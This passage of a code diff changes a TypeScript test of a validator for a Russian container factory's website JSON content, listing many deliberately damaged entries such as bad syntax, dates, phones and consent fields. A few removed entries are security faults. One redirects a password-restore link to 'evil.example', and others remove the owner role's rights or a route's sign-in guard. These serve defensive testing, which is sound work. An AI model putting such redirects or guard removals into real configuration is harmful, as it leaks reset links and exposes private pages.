++ ▸"required": true, "sameAs": "phne"
+forms/callback.json форма/поле
+- "required": true, "phone": "international"
++ ▸"required": true, "email": true
+forms/callback.json форма/поле
+- "messages": { "required":
++ ▸"messages": { "email": "Нет", "required":
+forms/callback.json форма/поле
+- "send": { "keep": "digits", "prefix": "+" }
++ ▸"send": { "value": "Y" }
+forms/callback.json форма/поле
+- "label": "E-mail"
++ ▸"label": "Телефон*"
+forms/callback.json форма/поле
+- "rows": 5,
++ ▸"send": { "as": "phone" },
+modals/success.json тексты/не-по-русски
+- "text": "Закрыть"
++ ▸"text": "Close"
+# What is right.
+content/faq.json верно
+- "answer": "Одна коробка
++ "answer": "[а](tel:+74922000005,12), [б](mailto:a@b.ru?subject=А), [в](/moscow/catalog/) коробка
+content/main.json верно
+- "text": "Как читать чертёж и допуски",
++ "text": "Как читать", "from": "2026-12-01 09:00", "until": "2026-12-01",
+forms/callback.json верно
+- "hint": "Если удобнее получить ответ письмом.",
++ "visible": { "$eq": [{ "$get": "form.name" }, "Анна"] },
+forms/callback.json верно
+- "autocomplete": "tel",
++ "autocomplete": "section-a work tel",
+pages/samples.json верно
+- "visible": { "$get": "query.full" }
++ "visible": { "$and": [{ "$gt": [{ "$get": "query.full" }, 0] }, { "$in": [{ "$get": "region.code" }, ["moscow"]] }] }
+pages/articles.json верно
+- "params": { "page": { "$get": "query.page" }, "tagIds": { "$get": "query.tag" } }
++ "params": { "$all": "query", "tagIds": { "$get": "query.tag" } }
+content/settings.json верно
+- "time": "09:00–17:00"
++ "time": "09:00–13:00, 14:00–18:00"
+`
 
-/** Marks the line on which the checker reports a mistake. */
 const MARK = '▸'
 
-/** A change of a file, «…» where all of it is replaced, and words of the message or its hint. */
-type Mistake = readonly [name: string, file: string, from: string, to: string, words: string]
+/** Codes that no change of one text can have: their tests lie beside files, pictures and the trial. */
+const OTHER_CODES = /^(?:файлы|показ)\/|^картинки\/(?:движется|размер|вес)$|слишком-большой$/
 
-const MISTAKES: readonly Mistake[] = [
-  // Mistakes that would let strangers in, or lock everybody out.
-  [
-    'the link of a letter leads elsewhere',
-    'mails/password-restore.json',
-    '{ "$get": "params.link" }',
-    '▸{ "$text": "https://evil.example/?u={params.link}" }',
-    'тайная ссылка уйдёт чужому сайту',
-  ],
-  [
-    'the role of the owner has another name',
-    'desk/roles.json',
-    '"roles": [\n    {\n      "id": "owner"',
-    '▸"roles": [\n    {\n      "id": "boss"',
-    'раздавать роли станет некому',
-  ],
-  [
-    'the owner may give no roles',
-    'desk/roles.json',
-    '"roles": [\n    {\n      "id": "owner",\n      "title": "Владелец",\n      "rights": [',
-    '▸"roles": [\n    {\n      "id": "other",\n      "title": "Другая",\n      "rights": []\n    },\n    {\n      "id": "owner",\n      "title": "Владелец",\n      "rights": []\n    },\n    {\n      "id": "third",\n      "title": "Третья",\n      "rights": [',
-    'ей нельзя «desk.staff»',
-  ],
-  [
-    'a page of who is signed in is open',
-    'routes.json',
-    '{ "path": "/personal/documents", "page": "personal-documents", "guard": "personal" }',
-    '▸{ "path": "/personal/documents", "page": "personal-documents" }',
-    'отвечает только тем, кто вошёл',
-  ],
-  // Notation.
-  ['a brace is missing', 'content/faq.json', '\n        },\n        {', '▸\n        {', 'Не закрыта фигурная скобка'],
-  ['a bracket is missing', 'pages/contacts.json', '\n  ]\n}', '▸\n}', 'Не закрыта квадратная скобка'],
-  [
-    'an opening bracket is missing',
-    'content/articles/pet-pnd-pp.json',
-    '"body": [',
-    '▸"body": ',
-    'Не открыта квадратная',
-  ],
-  ['a bracket for a brace', 'content/tags.json', '"Материалы" },', '▸"Материалы" ],', 'Здесь «]», а нужна «}»'],
-  ['a brace for a bracket', 'pages/contacts.json', '\n  ]\n}', '\n▸  }\n}', 'Здесь «}», а нужна «]»'],
-  ['a brace inside a line is missing', 'content/tags.json', '"Материалы" },', '▸"Материалы",', 'Не закрыта фигурная'],
-  [
-    'a comma is missing',
-    'content/news/banki-89.json',
-    '"date": "2026-03-19",\n',
-    '▸"date": "2026-03-19"\n',
-    'нужна запятая',
-  ],
-  [
-    'a sum by thousands',
-    'content/regions.json',
-    '"freeFrom": 10000000',
-    '▸"freeFrom": 100 000',
-    'без пробелов: 100000',
-  ],
-  ['a decimal comma', 'content/settings.json', '"lon": 37.6082 }', '▸"lon": 37,6082 }', 'с точкой: 37.6082'],
-  ['days after a number', 'content/offer.json', '"validityDays": 14', '▸"validityDays": 14 дней', 'знаков: 14'],
-  ['a brace too many', 'pages/home.json', '{ "route": "news" } } },', '▸{ "route": "news" } } } },', 'Лишняя фигурная'],
-  [
-    'the brace of a first element is missing',
-    'content/faq.json',
-    '"questions": [\n        {',
-    '▸"questions": [\n        ',
-    'Не открыта фигурная скобка',
-  ],
-  ["quotation marks ' around a key", 'modals/callback.json', '"title"', "▸'title'", "Здесь кавычка '"],
-  ['a mark of a conflict', 'content/main.json', '{\n', '{\n▸<<<<<<< HEAD\n', 'отметка git'],
-  ['a semicolon', 'content/about.json', '",\n', '▸";\n', 'точка с запятой'],
-  ['a sign of equality', 'routes.json', '": ', '▸" = ', 'Здесь знак ='],
-  ['a word for true', 'site.json', '"renderings": true', '▸"renderings": True', '«True» здесь пишется true'],
-  ['a key without quotation marks', 'content/certificates.json', '"issuer"', '▸issuer', '«issuer» стоит без кавычек'],
-  ['a quotation mark “ opens a string', 'content/seo.json', '"title": "Плас', '▸"title": “Плас', 'Здесь кавычка “'],
-  [
-    'quotation marks ‘’ around a string',
-    'modals/callback.json',
-    '"Задать вопрос"',
-    '▸‘Задать вопрос’',
-    'Здесь кавычка ‘',
-  ],
-  ['plain quotation marks inside a string', 'content/about.json', 'тары «Ёмкость»', '▸тары "Ёмкость"', 'внутри неё'],
-  ['a quotation mark is missing', 'forms/callback.json', '"alias": "Имя",', '▸"alias": "Имя,', 'не закрыта кавычкой'],
-  ['an empty file', 'content/about.json', '…', '▸', 'Файл пуст'],
-  ['a comment', 'content/offer.json', '"validityDays": 14,', '▸"validityDays": 14, // две недели', 'нет комментариев'],
-  ['a key written twice', 'content/main.json', '"text": "Банки', '▸"title": "Тара",\n  "text": "Банки', 'уже есть'],
-  // Entries.
-  ['a day that no month has', 'content/calendar.json', '"06-12"', '▸"06-31"', 'число в месяце должно быть'],
-  ['two statuses of one name', 'content/order-statuses.json', '"отгружен"', '▸"в производстве"', 'здесь уже есть'],
-  [
-    'a working day on Friday',
-    'content/calendar.json',
-    '"daysOff": [',
-    '"workingDays": [\n▸"02-20"], "daysOff": [',
-    'не суббота',
-  ],
-  ['a day off on Saturday', 'content/calendar.json', '"02-23"', '▸"02-21"', 'выходной и так'],
-  [
-    'a certificate of a day to come',
-    'content/certificates.json',
-    '"issued": "2025-10-14",\n      "validUntil": "2028-10-13"',
-    '▸"issued": "2052-10-14"',
-    'ещё не наступило',
-  ],
-  [
-    'a landing of the title of another',
-    'content/landings/tara-dlya-kosmetiki.json',
-    '"title": "Тара для косметики"',
-    '▸"title": "Тара для автохимии и технических жидкостей"',
-    'Так же называется',
-  ],
-  ['days that overlap', 'content/settings.json', '"days": "Пт"', '▸"days": "Чт, Пт"', '«Чт» здесь уже есть'],
-  ['days in full', 'content/settings.json', '"days": "Пт"', '▸"days": "Пятница"', 'ежедневно — «Пн–Вс»'],
-  [
-    'days and a time exchanged',
-    'content/settings.json',
-    '"days": "Пт", "time": "09:00–17:00"',
-    '▸"days": "09:00–17:00", "time": "Пт"',
-    'Время пишется так',
-  ],
-  ['a time in words', 'content/settings.json', '"time": "09:00–17:00"', '▸"time": "с 9 до 18"', 'Время пишется так'],
-  ['a time without an end', 'content/settings.json', '"time": "09:00–17:00"', '▸"time": "09:00"', 'конец позже начала'],
-  ['days with a slip', 'content/settings.json', '"Пн–Чт"', '▸"Пн-Чтв"', 'записано не так'],
-  [
-    'metadata of an address that is not there',
-    'content/seo.json',
-    '"path": "/"',
-    '▸"path": "/o-nas/"',
-    'Адреса «/o-nas/»',
-  ],
-  [
-    'a list does not get what its filter gets',
-    'pages/catalog.json',
-    '"catalog.list", "params": { "$all": "query route"',
-    '▸"catalog.list", "params": { "$all": "route"',
-    '«catalog.filter» получает из адреса «volume», «material», «neck» и ещё',
-  ],
-  [
-    'an answer that the form would erase',
-    'modals/profile-edit.json',
-    '"values": {\n          "name": { "$get": "data.profile.user.name", "default": "" },\n',
-    '▸"values": {\n',
-    'поле «name» — пустым',
-  ],
-  // Keys and types.
-  ['a misspelt key', 'content/certificates.json', '"issuer"', '▸"isuer"', 'Возможно, имелось в виду «issuer»'],
-  [
-    'a required key is deleted',
-    'content/news/banki-89.json',
-    ',\n  "date": "2026-03-19"',
-    '▸',
-    'Нет обязательного ключа «date»',
-  ],
-  [
-    'a number with a unit',
-    'content/news/banki-89.json',
-    '"height": 84,',
-    '▸"height": "84 мм",',
-    'Число пишется без кавычек: 84',
-  ],
-  ['a number that no product has', 'content/main.json', '"height": 62,', '▸"height": 62000,', 'Число большое'],
-  ['a flag in words', 'site.json', '"renderings": true', '▸"renderings": "да"', 'true'],
-  [
-    'an empty string',
-    'content/faq.json',
-    '"question": "Какой минимальный заказ?"',
-    '▸"question": ""',
-    'не может быть пустой',
-  ],
-  [
-    'spaces alone',
-    'content/faq.json',
-    '"question": "Какой минимальный заказ?"',
-    '▸"question": "   "',
-    'в ней одни пробелы',
-  ],
-  ['another word of a list', 'content/certificates.json', '"kind": "system"', '▸"kind": "sistem"', '«system»'],
-  [
-    'a block of another name',
-    'content/articles/pet-pnd-pp.json',
-    '"type": "lead"',
-    '▸"type": "leed"',
-    'Блока «leed» нет',
-  ],
-  [
-    'a prop beside the props',
-    'pages/contacts.json',
-    '"mapTitle": "Где мы"\n      }',
-    '"x": 1\n },\n▸"mapTitle": "Где мы"',
-    '"props"',
-  ],
-  ['a Russian date', 'content/articles/pet-pnd-pp.json', '"2025-10-09"', '▸"09.10.2025"', '«2025-10-09»'],
-  ['a day that there is not', 'content/requisites.json', '"2026-01-01"', '▸"2026-02-30"', 'записано не так'],
-  ['a year of another century', 'content/news/banki-89.json', '"2026-03-19"', '▸"2206-03-19"', 'записано не так'],
-  // Numbers and notations of the company.
-  ['the INN with a slip', 'content/settings.json', '"3300000007"', '▸"3300000070"', 'Контрольная цифра'],
-  ['the OGRN with a slip', 'content/settings.json', '"1023300000008"', '▸"1023300000080"', 'Контрольная цифра'],
-  [
-    'an account with a slip',
-    'content/requisites.json',
-    '"40702810300000001148"',
-    '▸"40702810300000001184"',
-    'Контрольный ключ',
-  ],
-  [
-    'hours that no clock shows',
-    'content/settings.json',
-    '"time": "09:00–18:00"',
-    '▸"time": "25:00–18:00"',
-    '«09:00–18:00»',
-  ],
-  [
-    'hours that end before they begin',
-    'content/settings.json',
-    '"time": "09:00–17:00"',
-    '▸"time": "17:00–09:00"',
-    'конец позже начала',
-  ],
-  [
-    'a phone with a digit too few',
-    'content/settings.json',
-    '"phone": "+7 4922 00-00-05"',
-    '▸"phone": "+7 4922 00-00-0"',
-    'записано не так',
-  ],
-  [
-    'a phone of no country',
-    'content/settings.json',
-    '"phone": "+7 4922 00-00-05"',
-    '▸"phone": "+8 492 200-00-05"',
-    'Кода «+8» нет',
-  ],
-  ['an e-mail without its sign', 'content/settings.json', '"vladimir@zavod', '▸"vladimir.zavod', 'info@zavod.ru'],
-  ['the site with a slash', 'site.json', 'emkost.example"', 'emkost.example/"▸', 'без косой черты в конце'],
-  [
-    'latitude for longitude',
-    'content/settings.json',
-    '"lat": 55.7936, "lon": 37.6082',
-    '▸"lat": 37.6082, "lon": 55.7936',
-    'Не перепутайте',
-  ],
-  // Money.
-  [
-    'a sum in rubles in words',
-    'content/regions.json',
-    '"freeFrom": 10000000',
-    '▸"freeFrom": "100 000 ₽"',
-    '100 000 ₽ — это 10000000',
-  ],
-  ['a sum in rubles', 'content/regions.json', '"freeFrom": 10000000', '▸"freeFrom": 100000', 'похоже, сумма в рублях'],
-  [
-    'a price of a pallet in rubles',
-    'content/delivery.json',
-    '"perPallet": 350000',
-    '▸"perPallet": 3500',
-    '3500 ₽ — это 350000',
-  ],
-  [
-    'a sum a hundred times too large',
-    'content/regions.json',
-    '"freeFrom": 10000000',
-    '▸"freeFrom": 1000000000',
-    'в сто раз',
-  ],
-  [
-    'news of another decade',
-    'content/news/prays-2026.json',
-    '"date": "2026-02-05"',
-    '▸"date": "2036-02-02"',
-    'ещё не наступило',
-  ],
-  [
-    'a state that no order comes to',
-    'content/order-statuses.json',
-    '"next": ["confirmed", "cancelled"] },\n    "confirmed": {',
-    '"next": ["cancelled"] },\n▸    "confirmed": {',
-    'от нового сюда никакие next не ведут',
-  ],
-  [
-    'a state that no order leaves',
-    'content/order-statuses.json',
-    '"shipped": {\n      "name": "отгружен",\n      "tone": "active",\n      "next": ["done"],',
-    '▸"shipped": {\n      "name": "отгружен",\n      "tone": "active",',
-    'не станет ни выполненным',
-  ],
-  ['a text that waits for its words', 'content/faq.json', '"question": "', '▸"question": "TODO ', 'осталась заготовка'],
-  ['a limit of invoices in rubles', 'site.json', '"upTo": 30000000', '▸"upTo": 300000', 'похоже, сумма в рублях'],
-  ['a negative price', 'content/delivery.json', '"least": 90000', '▸"least": -90000', 'Число маленькое'],
-  // Terms.
-  [
-    'days of a journey exchanged',
-    'content/delivery.json',
-    '"daysFrom": 1,\n        "daysTo": 2',
-    '"daysFrom": 2,\n▸        "daysTo": 1',
-    'поменяйте их местами',
-  ],
-  [
-    'a certificate that ends before it is issued',
-    'content/certificates.json',
-    '"validUntil": "2028-10-13"',
-    '▸"validUntil": "2018-10-13"',
-    'раньше, чем issued',
-  ],
-  [
-    'a certificate that is over',
-    'content/certificates.json',
-    '"issued": "2025-10-14",\n      "validUntil": "2028-10-13"',
-    '"issued": "2015-10-14",\n▸      "validUntil": "2018-10-13"',
-    'Срок документа вышел',
-  ],
-  [
-    'a banner that ends before it begins',
-    'content/main.json',
-    '"text": "Как читать чертёж и допуски",',
-    '"text": "Как читать", "from": "2026-12-02",\n▸"until": "2026-12-01",',
-    'until (2026-12-01) раньше',
-  ],
-  [
-    'rates of VAT out of order',
-    'content/requisites.json',
-    '"from": "2026-01-01"',
-    '▸"from": "2018-01-01"',
-    'стоит после той',
-  ],
-  // Names of other things.
-  [
-    'a topic that there is not',
-    'content/articles/pet-pnd-pp.json',
-    '["materialy"]',
-    '▸["materialyy"]',
-    'Темы «materialyy» нет',
-  ],
-  [
-    'an office that there is not',
-    'content/regions.json',
-    '"office": "moscow"',
-    '▸"office": "moskva"',
-    'Офиса «moskva» нет',
-  ],
-  ['a modal that there is not', 'forms/callback.json', '"modal": "success"', '▸"modal": "sucess"', 'Окна «sucess» нет'],
-  [
-    'a form that there is not',
-    'modals/callback.json',
-    '"form": "callback"',
-    '▸"form": "callbak"',
-    'Формы «callbak» нет',
-  ],
-  [
-    'a letter that there is not',
-    'forms/callback.json',
-    '"mail": "new-submission"',
-    '▸"mail": "new-submision"',
-    'Письма «new-submision» нет',
-  ],
-  [
-    'a partial that there is not',
-    'pages/contacts.json',
-    '"name": "region-delivery"',
-    '▸"name": "region-dostavka"',
-    'Фрагмента «region-dostavka» нет',
-  ],
-  ['a page that there is not', 'routes.json', '"page": "faq"', '▸"page": "fak"', 'Страницы «fak» нет'],
-  ['a call that there is not', 'pages/articles.json', '"library.list"', '▸"library.lst"', 'Вызова «library.lst» нет'],
-  [
-    'a name of data that nothing reads',
-    'pages/articles.json',
-    '"library": {',
-    '▸"libary": {',
-    '«library» читают, и его нет',
-  ],
-  [
-    'a parameter of the address that no call takes',
-    'pages/catalog.json',
-    '"heightFrom":',
-    '▸"hieghtFrom":',
-    'напишите «heightFrom»',
-  ],
-  ['a path that leads nowhere', 'pages/home.json', '"data.main.banners"', '▸"data.main.baners"', '«banners»'],
-  [
-    'a value for a field that the form lacks',
-    'modals/profile-edit.json',
-    '"values": {',
-    '"values": {\n▸"emial": "a@zavod.example",',
-    'нет поля «emial»',
-  ],
-  [
-    'an article number that the catalog lacks',
-    'content/main.json',
-    '"БН-350-70-ПС-ПР"',
-    '▸"БН-350-70-ПС-ПЛ"',
-    'Изделия с артикулом',
-  ],
-  [
-    'a section that the catalog lacks',
-    'content/main.json',
-    '"link": "/catalog/flakony/"',
-    '▸"link": "/catalog/flakonyy/"',
-    'Раздела «flakonyy»',
-  ],
-  ['a right that there is not', 'desk/roles.json', '"desk.ordersExport"', '▸"desk.orderExport"', '«desk.orderExport»'],
-  // Links and pictures.
-  ['a link without its last slash', 'pages/articles.json', '(/articles/)', '▸(/articles)', 'нет косой черты в конце'],
-  [
-    'a link to a page that there is not',
-    'content/main.json',
-    '"link": "/catalog/banki/"',
-    '▸"link": "/katalog/"',
-    'на сайте нет',
-  ],
-  [
-    'a link to an article that there is not',
-    'content/main.json',
-    '"slug": "chertezh-i-dopuski"',
-    '▸"slug": "chertezh"',
-    'Материала «chertezh» нет',
-  ],
-  [
-    'a place that the page lacks',
-    'content/settings.json',
-    '"anchor": "laboratory"',
-    '▸"anchor": "laboratoriya"',
-    'нет места «#laboratoriya»',
-  ],
-  ['a file that there is not', 'content/main.json', 'catalog_necks.pdf', '▸catalog_neck.pdf', 'нет в папке public'],
-  [
-    'a menu item that leads nowhere',
-    'content/settings.json',
-    '{ "name": "Импорт", "link": "/catalog-import/" }',
-    '▸{ "name": "Импорт" }',
-    'Нет ни одного из ключей',
-  ],
-  [
-    'another mail in the words of a link',
-    'content/faq.json',
-    '[info@zavod-emkost.example](mailto:info@',
-    '▸[info@zavod-emkost.example](mailto:inf@',
-    'В словах ссылки почта «info@zavod-emkost.example»',
-  ],
-  [
-    'another phone in the words of a link',
-    'content/faq.json',
-    '"answer": "Одна коробка',
-    '▸"answer": "[+7 4922 00-00-05](tel:+74922000006): одна коробка',
-    'пишите «tel:+74922000005»',
-  ],
-  [
-    'another phone in the words of a button',
-    'content/landings/tara-dlya-kosmetiki.json',
-    '"text": "Позвонить технологу"',
-    '▸"text": "+7 495 000-00-09"',
-    'В словах ссылки номер «+7 495 000-00-09»',
-  ],
-  [
-    'another mail in the words of a button',
-    'content/about.json',
-    '"text": "Написать на завод"',
-    '▸"text": "inf@zavod-emkost.example"',
-    'В словах ссылки почта',
-  ],
-  [
-    'a picture for social networks that there is not',
-    'content/seo.json',
-    '"path": "/",',
-    '▸"path": "/", "picture": "/assets/pictures/net.jpg",',
-    'Картинки «/assets/pictures/net.jpg» нет',
-  ],
-  // Texts.
-  [
-    'braces in a text that is no template',
-    'pages/contacts.json',
-    '"mapTitle": "Где мы"',
-    '▸"mapTitle": "Где мы в {region.name}"',
-    '{ "$text": "…" }',
-  ],
-  [
-    'braces in content',
-    'content/faq.json',
-    '"answer": "Одна коробка',
-    '▸"answer": "{site.name}: одна коробка',
-    'посетитель увидит скобки',
-  ],
-  [
-    'a brace that is not closed in a template',
-    'pages/contacts.json',
-    '"mapTitle": "Где мы"',
-    '▸"mapTitle": { "$text": "Где мы {region.name" }',
-    'Скобка «{» стоит без пары',
-  ],
-  [
-    'two braces in a template',
-    'pages/home.json',
-    '"blocks": [',
-    '"blocks": [\n▸{ "type": "text", "props": { "text": { "$text": "{{region.name}}" } } },',
-    'Скобка «{»',
-  ],
-  [
-    'another name in braces',
-    'content/requisites.json',
-    '"notice": "Счёт действителен до {until}',
-    '▸"notice": "Счёт действителен до {untill}',
-    '«until»',
-  ],
-  [
-    'a Latin letter in a Russian word',
-    'content/offer.json',
-    '"label": "Оснастка"',
-    '▸"label": "Оснaстка"',
-    'латинская буква',
-  ],
-  [
-    'bold that is not closed',
-    'content/faq.json',
-    '"answer": "Одна коробка',
-    '▸"answer": "**Одна коробка',
-    'знаки «**»',
-  ],
-  [
-    'a space inside a link',
-    'content/faq.json',
-    'в [контактах](/contacts/)',
-    '▸в [контактах] (/contacts/)',
-    'без пробела между скобками',
-  ],
-  [
-    'a link that is not closed',
-    'content/faq.json',
-    '(/articles/pet-pnd-pp/)',
-    '▸(/articles/pet-pnd-pp/',
-    'увидит знаки',
-  ],
-  ['a tag of HTML', 'content/faq.json', '"answer": "Одна коробка', '▸"answer": "<b>Одна</b> коробка', 'знаки «<b>»'],
-  ...['# Одна', '*Одна*', '__Одна__', '`Одна`', '(Одна)[/about/]', '![Одна](/about/)'].map(
-    (mark): Mistake => [
-      `a mark that visitors would see, ${mark}`,
-      'content/faq.json',
-      '"answer": "Одна коробка',
-      `▸"answer": "${mark} коробка`,
-      'Разметка записана не так',
-    ],
-  ),
-  ['straight quotation marks in a text', 'content/tags.json', '"Заказ и цена"', '▸"Заказ - и цена"', 'не по-русски'],
-  [
-    'a row with a cell too few',
-    'content/landings/tara-dlya-kosmetiki.json',
-    ', "24/410", "Дозатор 1,2 мл"]',
-    ', "24/410"]▸',
-    'а столбцов 4',
-  ],
-  [
-    'a row with a cell too many',
-    'content/documents/catalog-necks.json',
-    '["18/400", "1", ',
-    '▸["18/400", "1", "1", ',
-    'ячеек, а столбцов 6',
-  ],
-  [
-    'a question asked twice',
-    'content/faq.json',
-    '"questions": [',
-    '"questions": [{ "question": "А?", "answer": "Б." },\n▸{ "question": "А?", "answer": "В." },',
-    'здесь уже есть',
-  ],
-  ['two tags of one number', 'content/tags.json', '"number": 2,', '▸"number": 1,', 'здесь уже есть'],
-  ['a part of a number of days', 'content/delivery.json', '"daysTo": 2', '▸"daysTo": 2.5', 'Пишется без дроби'],
-  [
-    'a share for percents',
-    'content/requisites.json',
-    '"rate": 22',
-    '▸"rate": 0.22',
-    'Пишется без дроби. Процентов: 22',
-  ],
-  [
-    'a day of another century',
-    'content/certificates.json',
-    '"validUntil": "2028-10-13"',
-    '▸"validUntil": "2128-10-13"',
-    'Год бывает от 1900 до 2099',
-  ],
-  [
-    'a minute of another century',
-    'content/main.json',
-    '"text": "Как читать чертёж и допуски",',
-    '▸"text": "Как читать", "until": "2126-12-01 10:00",',
-    'Год бывает от 1900 до 2099',
-  ],
-  ['a word for true with a slip', 'site.json', '"renderings": true', '▸"renderings": ture', 'здесь пишется true'],
-  // Conditions.
-  [
-    'a path for the condition of a block',
-    'pages/contacts.json',
-    '"mapTitle": "Где мы"\n      }',
-    '"mapTitle": "Где мы" },\n▸"visible": "region.freeFrom"',
-    '{ "$get": "region.freeFrom" }',
-  ],
-  [
-    'a path for the condition of an obligation',
-    'forms/callback.json',
-    '"required": true, "maxLength": 3000',
-    '▸"required": "form.phone", "maxLength": 3000',
-    '{ "$get": "form.phone" }',
-  ],
-  [
-    'an object among the addresses of a choice',
-    'forms/offer-request.json',
-    '"to": { "route": "offer" }',
-    '▸"to": { "$if": [{ "$get": "region.phone" }, "/faq/", { "route": "offer" }] }',
-    'адреса пишут строками',
-  ],
-  [
-    'a list for the condition of a block',
-    'pages/contacts.json',
-    '"mapTitle": "Где мы"\n      }',
-    '"mapTitle": "Где мы" },\n▸"visible": { "$not": [{ "$get": "user.signedIn" }] }',
-    'Здесь одно условие',
-  ],
-  [
-    'a list for the condition of a field',
-    'forms/callback.json',
-    '"rows": 5,',
-    '▸"visible": { "$empty": [{ "$get": "region.phone" }] },',
-    'Здесь одно условие',
-  ],
-  [
-    'a list for the condition of an obligation',
-    'forms/questionnaire.json',
-    '"validation": { "required": true }',
-    '▸"validation": { "required": { "$not": [{ "$eq": [{ "$get": "form.kinds" }, "x"] }] } }',
-    'Здесь одно условие',
-  ],
-  // Forms.
-  [
-    'a field that sees itself',
-    'forms/callback.json',
-    '"rows": 5,',
-    '▸"visible": { "$eq": [{ "$get": "form.message" }, "да"] },',
-    'в нём самом',
-  ],
-  [
-    'a form without consent',
-    'forms/callback.json',
-    '{\n      "name": "agree",\n      "type": "checkbox",\n      "label": "Даю [согласие на обработку персональных данных](settings:consent)",\n      "consent": "data-consent",',
-    '▸{\n      "name": "agree",\n      "type": "checkbox",\n      "label": "Даю [согласие на обработку персональных данных](settings:consent)",\n      ',
-    'не названа согласием',
-  ],
-  [
-    'a star at a field that may stay empty',
-    'forms/questionnaire.json',
-    '"label": "Страна организации"',
-    '▸"label": "Страна организации*"',
-    'уберите звёздочку',
-  ],
-  [
-    'a required field without a star',
-    'forms/callback.json',
-    '"label": "Телефон*"',
-    '▸"label": "Телефон"',
-    'Допишите её',
-  ],
-  [
-    'a chosen field that the form lacks',
-    'pages/checkout.json',
-    '"workCompany country inn',
-    '▸"workCompany countri inn',
-    'нет поля «countri»',
-  ],
-  [
-    'a value that is no option of its field',
-    'pages/checkout.json',
-    '"country": { "$get": "data.buyer.buyer.country" }',
-    '▸"country": "rus"',
-    'Варианта «rus» у поля нет',
-  ],
-  ['the same answer twice', 'forms/callback.json', '"name": "message"', '▸"name": "phone"', 'уже есть'],
-  [
-    'consent given beforehand',
-    'forms/callback.json',
-    '"consent": "data-consent",',
-    '"consent": "data-consent",\n▸"default": true,',
-    'нельзя отметить за посетителя',
-  ],
-  [
-    'consent given by a page',
-    'pages/samples.json',
-    '"form": "sample"',
-    '"form": "sample", "values": {\n▸"agree": true }',
-    'нельзя отметить за посетителя',
-  ],
-  [
-    'consent asked of some',
-    'forms/callback.json',
-    '"consent": "data-consent",',
-    '"consent": "data-consent",\n▸"visible": { "$get": "form.email" },',
-    'согласие «agree» видно не всегда',
-  ],
-  [
-    'a value that its field refuses',
-    'pages/samples.json',
-    '"form": "sample"',
-    '"form": "sample", "values": {\n▸"email": "нет" }',
-    'Поле само не примет такое значение',
-  ],
-  [
-    'an answer that nobody gets',
-    'forms/callback.json',
-    '"name": "message",',
-    '"name": "message",\n▸"send": false,',
-    '«message» обязателен, а не дойдёт',
-  ],
-  [
-    'a form that is emptied without a word',
-    'forms/callback.json',
-    '"onSuccess": [{ "do": "resetForm" }, { "do": "openModal", "modal": "success" }]',
-    '▸"onSuccess": [{ "do": "resetForm" }]',
-    'посетитель об этом не узнает',
-  ],
-  [
-    'files for a call that takes none',
-    'forms/subscribe.json',
-    '"fields": [',
-    '"fields": [{ "name": "files", "label": "Файлы",\n▸"type": "file", "validation": { "file": { "kinds": ["pdf"] } } },',
-    'не принимает файлов',
-  ],
-  [
-    'letters to nobody',
-    'forms/questionnaire.json',
-    '"mails": [{ "mail": "new-submission" }, ',
-    '▸"mails": [',
-    'письма ему форма не отправляет',
-  ],
-  [
-    'a letter to a field of no address',
-    'forms/callback.json',
-    '{ "$get": "form.email" }',
-    '▸{ "$get": "form.name" }',
-    'вводят не почту',
-  ],
-  [
-    'a filter of a text',
-    'catalog/properties.json',
-    '"properties": [',
-    '"properties": [{ "name": "note", "title": "Заметка", "kind": "text",\n▸"filter": true },',
-    'не отбирают',
-  ],
-]
+interface Mistake {
+  readonly name: string
+  readonly file: string
+  readonly code: string
+  readonly elsewhere: string | undefined
+  /** The text of the file with the mark in it. */
+  readonly damaged: string
+}
 
 const texts = await readTexts(schemaFolder, publicFolder)
 
@@ -770,29 +982,35 @@ const catalog: KnownCatalog = {
   hasProduct: () => true,
   hasArticle: (_, article) => article !== 'БН-350-70-ПС-ПЛ',
   facetWords: () => undefined,
-  bounds: () => undefined,
 }
 
-const textOf = (file: string): string => texts.read.find(({ path }) => path === file)?.text ?? ''
+const plain = (text: string): string => text.replaceAll('\u00a0', ' ')
 
-/** The text of a file with a mistake; the mark is still in. */
-function damaged([name, file, from, to]: Mistake): string {
-  const text = textOf(file)
-  const at = plain(text).indexOf(from)
-  if (from === '…') return to
-  if (at < 0) throw new Error(`${file} has no place for «${name}»`)
-  return text.slice(0, at) + to + text.slice(at + from.length)
-}
+const mistakes = MISTAKES.trim()
+  .split(/\n(?![-+])/)
+  .filter((row) => !row.startsWith('#'))
+  .map((name): Mistake => {
+    const [head = '', ...lines] = name.split('\n')
+    const side = (sign: string): string =>
+      lines.flatMap((line) => (line.startsWith(sign) ? line.slice(2) : [])).join('\n')
+    const [file = '', code = '', elsewhere] = head.split(' ')
+    const from = side('-')
+    const text = texts.read.find(({ path }) => path === file)?.text ?? ''
+    const at = plain(text).indexOf(from)
+    if (at < 0 && from !== '…') throw new Error(`No place for ${name}`)
+    const damaged = from === '…' ? side('+') : text.slice(0, at) + side('+') + text.slice(at + from.length)
+    return { name, file, code, elsewhere, damaged }
+  })
 
-/** Mistakes that are checked together: each in a file of its own; alone where all other files depend on it. */
+/** Mistakes that are checked together: each in a file of its own; alone where other files depend on it. */
 function batches(): Mistake[][] {
   const all: Mistake[][] = []
-  for (const mistake of MISTAKES) {
-    const [, file] = mistake
-    const isAlone = (path: string): boolean => kinds.get(kinds.at(path)?.kind ?? 'page').shared === true
-    const free = isAlone(file)
+  const isAlone = ({ file, elsewhere }: Mistake): boolean =>
+    elsewhere !== undefined || kinds.get(kinds.at(file)?.kind ?? 'page').shared === true
+  for (const mistake of mistakes) {
+    const free = isAlone(mistake)
       ? undefined
-      : all.find((batch) => batch.every(([, other]) => other !== file && !isAlone(other)))
+      : all.find((batch) => batch.every((other) => other.file !== mistake.file && !isAlone(other)))
     if (free) free.push(mistake)
     else all.push([mistake])
   }
@@ -800,32 +1018,35 @@ function batches(): Mistake[][] {
 }
 
 function problemsWith(batch: readonly Mistake[]): Problem[] {
-  const changed = new Map(batch.map((mistake) => [mistake[1], damaged(mistake).replace(MARK, '')]))
+  const changed = new Map(batch.map(({ file, damaged }) => [file, damaged.replace(MARK, '')]))
   const read = texts.read.map((text) => ({ ...text, text: changed.get(text.path) ?? text.text }))
-  const files = indexFiles(kinds, schemaTexts(read, texts.assets, texts.pictures))
-  return checkFiles(checkInput(files, catalog))
+  return checkFiles(checkInput(indexFiles(kinds, schemaTexts(read, texts.assets, texts.pictures)), catalog))
 }
-
-const plain = (text: string): string => text.replaceAll('\u00a0', ' ')
-
-test('a mistake of a content manager is told, on its line', () => {
-  const results = batches().flatMap((batch) => {
-    const problems = problemsWith(batch)
